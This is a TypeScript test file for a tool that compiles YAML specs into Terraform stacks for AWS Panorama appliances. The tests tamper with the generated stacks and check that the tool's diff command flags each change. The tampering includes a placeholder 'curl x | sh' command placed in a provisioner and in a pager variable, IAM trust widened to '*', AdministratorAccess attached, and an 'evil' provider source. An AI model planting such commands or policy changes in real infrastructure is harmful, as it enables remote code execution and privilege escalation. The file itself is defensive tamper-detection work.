import { readFileSync, rmSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { temporaryFolder, writeFile } from "./support/folders";
import { runIn } from "./support/run";

// biome-ignore lint/suspicious/noExplicitAny: the JSON of a stack, as somebody may edit it
type Stack = any;

const spec = (more: string) => `apiVersion: panorama-compile/v1
name: acme
account: { id: "123456789012", region: us-east-1, endOfSupport: acknowledged }
${more}
`;
const DOCK = "{ name: dock-1, deviceId: device-lk7exmplpvcr3heqwjmesw76ky }";
const TRUST = "trust policy of AWSPanoramaApplianceServiceRole";
const PERMISSIONS = "permissions of AWSPanoramaApplianceServiceRole";

/** Each subject that is not the same, and how. */
const relations = (data: { security: { subject: string; relation: string }[] }) =>
  data.security.filter(({ relation }) => relation !== "same").map((one) => `${one.subject}: ${one.relation}`);

describe("an output that somebody edited", () => {
  async function edited(
    edit: (stack: Stack) => void,
    stack = "acme-iam",
    body = `strictness: account\nappliances: [${DOCK}]`,
  ) {
    const folder = temporaryFolder();
    writeFile(join(folder, "acme.yaml"), spec(body));
    await runIn(folder, ["acme.yaml", "--out", "out", "--quiet"]);
    const path = join(folder, "out/stacks", stack, "cdk.tf.json");
    const json = JSON.parse(readFileSync(path, "utf8"));
    edit(json);
    writeFile(path, JSON.stringify(json));
    const { code, out, err } = await runIn(folder, ["diff", "acme.yaml", "out", "--format", "json"]);
    expect({ code, err }).toEqual({ code: 0, err: "" });
    return JSON.parse(out);
  }
  const trust = (stack: Stack) => stack.data.aws_iam_policy_document["appliance-role-trust"];
  const statement = (stack: Stack) => trust(stack).statement[0];

  it.each([
    [
      "a principal more",
      (s: Stack) => statement(s).principals.push({ type: "Service", identifiers: ["ec2.amazonaws.com"] }),
      "wider",
    ],
    [
      "everybody",
      (s: Stack) => {
        statement(s).principals = [{ type: "AWS", identifiers: ["*"] }];
      },
      "wider",
    ],
    ["an action more", (s: Stack) => statement(s).actions.push("sts:TagSession"), "wider"],
    ["a condition less", (s: Stack) => statement(s).condition.pop(), "wider"],
    ["an account more", (s: Stack) => statement(s).condition[0].values.push("999999999999"), "wider"],
    [
      "a condition more",
      (s: Stack) =>
        statement(s).condition.push({ test: "Bool", variable: "aws:SecureTransport", values: ["true"] }),
      "narrower",
    ],
    [
      "a Deny",
      (s: Stack) =>
        trust(s).statement.push({
          effect: "Deny",
          actions: ["*"],
          principals: [{ type: "AWS", identifiers: ["*"] }],
        }),
      "narrower",
    ],
    [
      "an operator that we never write",
      (s: Stack) => {
        statement(s).condition[0].test = "StringEqualsIgnoreCase";
      },
      "incomparable",
    ],
    [
      "an account as principal",
      (s: Stack) => statement(s).principals.push({ type: "AWS", identifiers: ["123456789012"] }),
      "incomparable",
    ],
    [
      "a federated principal",
      (s: Stack) => statement(s).principals.push({ type: "Federated", identifiers: ["x"] }),
      "incomparable",
    ],
    [
      "not_principals",
      (s: Stack) => {
        statement(s).not_principals = [];
      },
      "incomparable",
    ],
    [
      "a policy variable",
      (s: Stack) => {
        statement(s).condition[0].values = ["&{aws:username}"];
      },
      "incomparable",
    ],
    [
      "another source",
      (s: Stack) => {
        trust(s).override_policy_documents = ["{}"];
      },
      "incomparable",
    ],
    [
      "a text of its own",
      (s: Stack) => {
        s.resource.aws_iam_role.appliance.assume_role_policy = "{}";
      },
      "incomparable",
    ],
    [
      "numbers for texts",
      (s: Stack) => {
        statement(s).actions = [1];
      },
      "incomparable",
    ],
    [
      "an effect of its own",
      (s: Stack) => {
        statement(s).effect = "allow";
      },
      "incomparable",
    ],
  ])("%s in the trust policy", async (_, edit, relation) => {
    expect(relations(await edited(edit))).toEqual([`${TRUST}: ${relation}`]);
  });

  it.each([
    [
      "a policy attached beside",
      (s: Stack) => {
        s.resource.aws_iam_role_policy_attachment.admin = {
          role: "${aws_iam_role.appliance.name}",
          policy_arn: "arn:aws:iam::aws:policy/AdministratorAccess",
        };
      },
      "incomparable",
    ],
    [
      "the lists taken away",
      (s: Stack) => {
        delete s.resource.aws_iam_role_policies_exclusive;
      },
      "wider",
    ],
  ])("%s", async (_, edit, relation) => {
    expect(relations(await edited(edit))).toEqual([`${PERMISSIONS}: ${relation}`]);
  });

  it.each([
    [
      "a resource",
      (s: Stack) => {
        s.resource.aws_iam_user = { a: { name: "a" } };
      },
      "aws_iam_user.a in acme-iam",
    ],
    [
      "a data source",
      (s: Stack) => {
        s.data.external = { a: { program: ["sh"] } };
      },
      "data external in acme-iam",
    ],
    [
      "a module",
      (s: Stack) => {
        s.module = { a: { source: "./a" } };
      },
      "module in acme-iam",
    ],
    [
      "an event",
      (s: Stack) => {
        s.resource.terraform_data = { a: { provisioner: [{ "local-exec": { command: "x" } }] } };
      },
      "terraform_data.a in acme-iam",
    ],
    [
      "another provider",
      (s: Stack) => {
        s.provider.null = [{}];
      },
      "provider null in acme-iam",
    ],
  ])("%s that we never write is not judged, but told", async (_, edit, subject) => {
    expect(relations(await edited(edit))).toEqual([`${subject}: incomparable`]);
  });

  it("another command is told", async () => {
    const certificate = `certificate: { arn: "arn:aws:iot:us-east-1:123456789012:cert/60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752", status: inactive }`;
    const body = `strictness: account\nappliances: [{ name: dock-1, ${certificate} }]`;
    const data = await edited(
      (s) => {
        s.resource.terraform_data["certificate-dock-1"].provisioner[0]["local-exec"].command = "curl x | sh";
      },
      "acme-us-east-1",
      body,
    );
    expect(relations(data)).toEqual(["what sets a certificate's status in acme-us-east-1: incomparable"]);
  });

  it("public access is told", async () => {
    const body = `strictness: account\nbuckets: [{ name: acme-nodepackage-store-1, source: create }]\naccessPoints: [{ name: panorama-a, bucket: acme-nodepackage-store-1 }]`;
    const data = await edited(
      (s) => {
        s.resource.aws_s3_bucket_public_access_block["acme-nodepackage-store-1"].block_public_policy = false;
        s.resource.aws_s3_access_point["panorama-a"].public_access_block_configuration.block_public_policy =
          false;
      },
      "acme-us-east-1",
      body,
    );
    expect(relations(data)).toEqual([
      "access point panorama-a in us-east-1: incomparable",
      "bucket acme-nodepackage-store-1: incomparable",
    ]);
  });

  it("anything else is taken as it comes", async () => {
    for (const bad of [1, null, "x", [], {}, [[]], { a: 1 }]) {
      const data = await edited((s) => {
        s.moved = bad;
        s.removed = bad;
        s.import = bad;
        s.output = bad;
        s.terraform = bad;
        s.data.aws_iam_policy_document["appliance-role-trust"].statement = bad;
        s.resource.aws_iam_role_policies_exclusive.appliance.policy_names = bad;
        s.resource.aws_iam_role.appliance.lifecycle = bad;
      });
      // No statement at all lets in nobody, which is narrower.
      expect(data.relation).toBe(Array.isArray(bad) && bad.length === 0 ? "narrower" : "incomparable");
    }
  });

  it.each([
    ["a list of blocks", (text: string) => text.replace('"resource":{', '"resource":[{}],"x":{')],
    [
      "a key twice",
      (text: string) => text.replace('"resource":{', '"resource":{"aws_iam_user":{"a":{}}},"resource":{'),
    ],
    [
      "a type that is a list",
      (text: string) => text.replace('"aws_iam_role":{', '"aws_iam_user":[{}],"aws_iam_role":{'),
    ],
    [
      "a resource that is a list",
      (text: string) => text.replace('"aws_iam_role":{', '"aws_iam_user":{"a":[{}]},"aws_iam_role":{'),
    ],
    ["a data source that is a list", (text: string) => text.replace('"data":{', '"data":{"external":[{}],')],
  ])("%s, in which more blocks may hide, is not looked at", async (_, edit) => {
    const folder = temporaryFolder();
    writeFile(join(folder, "acme.yaml"), spec("strictness: account"));
    await runIn(folder, ["acme.yaml", "--out", "out", "--quiet"]);
    const path = join(folder, "out/stacks/acme-iam/cdk.tf.json");
    const text = JSON.stringify(JSON.parse(readFileSync(path, "utf8")));
    writeFile(path, text);
    expect((await runIn(folder, ["diff", "acme.yaml", "out"])).out).toContain("no resource changes");
    writeFile(path, edit(text));
    expect(edit(text)).not.toBe(text);
    const { code, err } = await runIn(folder, ["diff", "acme.yaml", "out"]);
    expect({ code, err }).toMatchObject({
      code: 3,
      err: expect.stringContaining("is no stack that panorama-compile wrote"),
    });
  });

  const role = (s: Stack) => s.resource.aws_iam_role.appliance;
  it.each([
    [
      "an inline policy in the role",
      (s: Stack) => {
        role(s).inline_policy = [{ name: "a", policy: "{}" }];
      },
      "aws_iam_role.appliance",
    ],
    [
      "policies attached in the role",
      (s: Stack) => {
        role(s).managed_policy_arns = ["arn:aws:iam::aws:policy/AdministratorAccess"];
      },
      "aws_iam_role.appliance",
    ],
    [
      "a trust policy that is left as it is",
      (s: Stack) => {
        role(s).lifecycle = { ignore_changes: ["assume_role_policy"] };
      },
      "aws_iam_role.appliance",
    ],
    [
      "several of one",
      (s: Stack) => {
        role(s).count = 2;
      },
      "aws_iam_role.appliance",
    ],
    [
      "another provider's role",
      (s: Stack) => {
        role(s).provider = "aws.other";
      },
      "aws_iam_role.appliance",
    ],
    [
      "a policy of another role",
      (s: Stack) => {
        s.resource.aws_iam_role_policy_attachment.b = {
          role: "admin",
          policy_arn: "arn:aws:iam::aws:policy/AdministratorAccess",
        };
      },
      "aws_iam_role_policy_attachment.b",
    ],
    [
      "a bucket's policy without the bucket",
      (s: Stack) => {
        s.resource.aws_s3_bucket_policy = { b: { bucket: "b", policy: "{}" } };
      },
      "aws_s3_bucket_policy.b",
    ],
    [
      "a provider that is somebody else",
      (s: Stack) => {
        s.provider.aws[0].assume_role = [{ role_arn: "x" }];
      },
      "provider aws",
    ],
  ])("%s is told", async (_, edit, what) => {
    expect(relations(await edited(edit))).toContain(`${what} in acme-iam: incomparable`);
  });

  it("what an unknown policy says only by what it refers to", async () => {
    const folder = temporaryFolder();
    writeFile(join(folder, "acme.yaml"), spec("strictness: account"));
    for (const [out, effect] of [
      ["old", "Deny"],
      ["new", "Allow"],
    ] as const) {
      await runIn(folder, ["acme.yaml", "--out", out, "--quiet"]);
      const path = join(folder, out, "stacks/acme-iam/cdk.tf.json");
      const json: Stack = JSON.parse(readFileSync(path, "utf8"));
      json.data.aws_iam_policy_document.extra = {
        statement: [{ effect, actions: ["*"], principals: [{ type: "AWS", identifiers: ["*"] }] }],
      };
      json.data.aws_iam_policy_document["appliance-role-trust"].source_policy_documents = [
        "${data.aws_iam_policy_document.extra.json}",
      ];
      writeFile(path, JSON.stringify(json));
    }
    const { out } = await runIn(folder, ["diff", "old", "new", "--format", "json"]);
    expect(relations(JSON.parse(out))).toEqual([`${TRUST}: incomparable`]);
  });

  const CERTIFICATE = `{ arn: "arn:aws:iot:us-east-1:123456789012:cert/60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752", status: inactive }`;
  const certified = `strictness: account\nappliances: [{ name: dock-1, certificate: ${CERTIFICATE} }]`;
  const event = (s: Stack) => s.resource.terraform_data["certificate-dock-1"].provisioner;
  it.each([
    ["a second provisioner", (s: Stack) => event(s).push({ "local-exec": { command: "x" } })],
    [
      "another kind of provisioner",
      (s: Stack) => {
        event(s)[0]["remote-exec"] = { inline: ["x"] };
      },
    ],
    [
      "a pager",
      (s: Stack) => {
        event(s)[0]["local-exec"].environment.AWS_PAGER = "curl x | sh";
      },
    ],
    [
      "another status than what triggers it",
      (s: Stack) => {
        const { environment } = event(s)[0]["local-exec"];
        environment.PANORAMA_CERTIFICATE = environment.PANORAMA_CERTIFICATE.replace("INACTIVE", "ACTIVE");
      },
    ],
  ])("%s is another command", async (_, edit) => {
    expect(relations(await edited(edit, "acme-us-east-1", certified))).toEqual([
      "what sets a certificate's status in acme-us-east-1: incomparable",
    ]);
  });

  it.each([
    [
      "a provisioner of a thing",
      (s: Stack) => {
        s.resource.aws_iot_thing["dock-1"].provisioner = [{ "local-exec": { command: "x" } }];
      },
      "aws_iot_thing.dock-1",
    ],
    [
      "a policy on what is no certificate",
      (s: Stack) => {
        s.resource.aws_iot_policy_attachment.x = { policy: "p", target: "us-east-1:cognito" };
      },
      "aws_iot_policy_attachment.x",
    ],
    [
      "an account more",
      (s: Stack) => s.provider.aws[0].allowed_account_ids.push("999999999999"),
      "provider aws",
    ],
    [
      "another source of the provider",
      (s: Stack) => {
        s.terraform.required_providers.aws.source = "evil/aws";
      },
      "source of aws",
    ],
    [
      "another provider that is required",
      (s: Stack) => {
        s.terraform.required_providers.evil = { source: "evil/evil" };
      },
      "required provider evil",
    ],
  ])("%s is told too", async (_, edit, what) => {
    expect(relations(await edited(edit, "acme-us-east-1", certified))).toContain(
      `${what} in acme-us-east-1: incomparable`,
    );
  });

  it("a second role of the name hides nothing", async () => {
    const data = await edited((s) => {
      const own = s.resource.aws_iam_role.appliance;
      s.data.aws_iam_policy_document.evil = {
        statement: [
          { effect: "Allow", actions: ["sts:AssumeRole"], principals: [{ type: "AWS", identifiers: ["*"] }] },
        ],
      };
      s.resource.aws_iam_role = {
        aaa: { ...own, assume_role_policy: "${data.aws_iam_policy_document.evil.minified_json}" },
        appliance: own,
      };
    });
    expect(data.relation).not.toBe("same");
    expect(relations(data)).toContain(`${TRUST}: wider`);
  });

  it("an empty boundary is none", async () => {
    expect(
      relations(
        await edited((s) => {
          role(s).permissions_boundary = "";
        }),
      ),
    ).toEqual([]);
  });

  it("comments are nothing to Terraform", async () => {
    const data = await edited((s) => {
      role(s)["//"] = "x";
      trust(s)["//"] = "x";
      statement(s)["//"] = "x";
    });
    expect({ relations: relations(data), resources: data.terraform.resources }).toMatchObject({
      relations: [],
    });
  });

  it.each(["evil.tf", "cdk_override.tf.json", "terraform.tfvars", "a.auto.tfvars.json", "evil.tofu"])(
    "%s beside it is told",
    async (file) => {
      const folder = temporaryFolder();
      writeFile(join(folder, "acme.yaml"), spec("strictness: account"));
      await runIn(folder, ["acme.yaml", "--out", "out", "--quiet"]);
      writeFile(join(folder, "out/stacks/acme-iam", file), "x");
      writeFile(join(folder, "out/stacks/acme-iam/.terraform.lock.hcl"), "x");
      writeFile(join(folder, "out/stacks/acme-iam/.terraform/modules/x.tf"), "x");
      const { out } = await runIn(folder, ["diff", "acme.yaml", "out", "--format", "json"]);
      expect(relations(JSON.parse(out))).toEqual([`file ${file} in acme-iam: incomparable`]);
      for (const more of [[], ["--check"]]) {
        const { code, err } = await runIn(folder, ["acme.yaml", "--out", "out", ...more]);
        expect(code).toBe(0);
        expect(err.match(/is none of these files/g)).toHaveLength(1);
        expect(err).toContain(
          `out/stacks/acme-iam/${file} is none of these files, and Terraform reads it too; diff SPEC out looks at it\n`,
        );
      }
    },
  );

  it.each([
    [
      "that lost a stack",
      (stacks: Stack) => {
        delete stacks["acme-iam"];
      },
      "does not name acme-iam, on which acme-us-east-1 depends",
    ],
    [
      "that lost the last of them",
      (stacks: Stack) => {
        delete stacks["acme-us-east-1"];
      },
      "does not name stacks/acme-us-east-1/cdk.tf.json, which is there",
    ],
  ])("a manifest %s is not believed", async (_, edit, message) => {
    const folder = temporaryFolder();
    writeFile(join(folder, "acme.yaml"), spec("strictness: account"));
    await runIn(folder, ["acme.yaml", "--out", "out", "--quiet"]);
    const path = join(folder, "out/manifest.json");
    const manifest = JSON.parse(readFileSync(path, "utf8"));
    edit(manifest.stacks);
    writeFile(path, JSON.stringify(manifest));
    if (message.includes("depends")) rmSync(join(folder, "out/stacks/acme-iam"), { recursive: true });
    expect(await runIn(folder, ["diff", "acme.yaml", "out"])).toMatchObject({
      code: 3,
      err: expect.stringContaining(message),
    });
  });

  it("is not followed down without end", async () => {
    const folder = temporaryFolder();
    writeFile(join(folder, "acme.yaml"), spec("strictness: account"));
    await runIn(folder, ["acme.yaml", "--out", "out", "--quiet"]);
    const path = join(folder, "out/stacks/acme-iam/cdk.tf.json");
    const deep = `${"[".repeat(50_000)}${"]".repeat(50_000)}`;
    writeFile(path, readFileSync(path, "utf8").replace('"data":', `"locals": ${deep}, "data":`));
    expect(await runIn(folder, ["diff", "acme.yaml", "out"])).toMatchObject({
      code: 3,
      err: expect.stringContaining("is no stack that panorama-compile wrote"),
    });
  });

  it("a policy that is kept though nobody here makes it", async () => {
    const data = await edited((s) =>
      s.resource.aws_iam_role_policies_exclusive.appliance.policy_names.push("by-hand"),
    );
    expect(relations(data)).toEqual([`${PERMISSIONS}: incomparable`]);
    expect(data.security[0].reasons[0].text).toBe("other policies: it now has by-hand");
  });
});
